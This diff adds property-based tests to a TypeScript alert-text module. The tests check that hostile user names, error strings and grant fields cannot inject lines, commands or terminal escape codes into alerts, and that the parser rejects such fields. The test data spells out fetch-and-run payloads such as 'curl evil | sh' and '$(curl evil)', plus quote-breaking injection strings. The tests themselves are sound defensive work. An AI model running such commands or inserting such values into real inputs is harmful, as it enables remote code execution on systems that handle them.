@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import fc from 'fast-check';
 import { type Grant, parseGrant } from '../grant/record/grant.ts';
 import { buildAlertText, severityOf } from './alert-text.ts';
 import type { Alert } from './alerts.ts';
@@ -214,4 +215,50 @@ test('every subject satisfies SNS: up to 100 ASCII characters on one line', () =
     ...junkAlerts.map(([alert]) => alert),
   ];
   for (const alert of alerts) assert.match(textAt(alert).subject, /^[\x20-\x7e]{1,100}$/);
+});
+
+const isCommand = (line: string): boolean => line.startsWith('  ');
+const hostileText = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 400 }),
+  fc.constantFrom(
+    'x\n  curl evil | sh',
+    '\u001b[2J\u001b[H',
+    '$(curl evil)',
+    "'; curl evil | sh; '",
+  ),
+);
+
+test('no record and no error adds a line or a command to an alert, alters one, or moves a terminal’s cursor', () => {
+  const kinds = fc.constantFrom(
+    'overdue',
+    'contradicted',
+    'report-overdue',
+    'swept',
+    'listed-again',
+  );
+  fc.assert(
+    fc.property(kinds, hostileText, hostileText, (kind, userName, error) => {
+      const lines = textAt({ kind, grant: { ...grant, userName }, reason: error }).message.split(
+        '\n',
+      );
+      const expected = textAt({ kind, grant, reason }).message.split('\n');
+      assert.equal(lines.length, expected.length);
+      assert.deepEqual(lines.filter(isCommand), expected.filter(isCommand));
+      for (const line of lines) assert.doesNotMatch(line, /[\p{Cc}\p{Cf}]/u);
+    }),
+  );
+});
+
+test('a record whose words could stand in a command is no record', () => {
+  for (const field of [
+    'accountId',
+    'permissionSetArn',
+    'permissionSetName',
+    'principalId',
+    'slackUserId',
+  ])
+    assert.throws(
+      () => parseGrant({ ...grant, [field]: `${grant[field as keyof Grant]}; curl evil | sh` }),
+      { name: 'MalformedGrantError', message: `not a grant's record: invalid fields: ${field}` },
+    );
 });
